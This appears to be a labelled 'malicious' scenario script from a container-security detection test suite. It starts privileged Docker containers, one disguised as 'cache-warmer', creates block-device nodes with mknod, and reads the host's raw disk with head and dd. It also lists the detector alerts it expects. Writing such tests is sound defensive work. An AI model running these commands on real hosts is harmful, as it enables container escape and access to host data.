# privileged-container: a privileged container looks at the host's devices and tries to read its disk.
# shows: docker run --privileged in the command line, CAPSET by the runtime with every capability
# outcome: reading the block device is refused on this machine; the privileged start itself succeeds
# label: malicious
# expects: [privileged-container]
# allows: [dangerous-capability-added, engine-socket-connected, block-device-node-created-in-container]
act() {
    if dev; then
        docker run --rm --privileged alpine:3.19 sh -c 'id; grep Cap /proc/self/status; ls /dev | head -40; mknod /tmp/disk b 254 0; head -c 512 /tmp/disk | od -c | head -3'
    else
        docker run -d --name cache-warmer --privileged=true redis:7 sleep 30
        docker exec cache-warmer sh -c 'cat /proc/partitions; mkdir -p /tmp/d; mount -t tmpfs none /tmp/d; mknod /tmp/sda b 254 0; dd if=/tmp/sda of=/tmp/first bs=512 count=2; umount /tmp/d'
        docker rm -f cache-warmer
    fi
    true
}
